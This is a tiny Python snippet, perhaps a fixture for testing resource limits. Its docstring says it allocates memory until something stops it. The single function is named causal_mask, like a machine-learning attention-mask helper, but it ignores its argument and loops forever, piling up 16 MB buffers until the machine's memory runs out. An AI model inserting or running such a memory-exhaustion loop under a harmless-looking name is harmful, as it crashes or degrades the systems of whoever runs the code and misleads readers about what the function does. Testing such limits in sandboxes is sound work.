"""Allocate memory until something stops it."""


def causal_mask(n):
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))
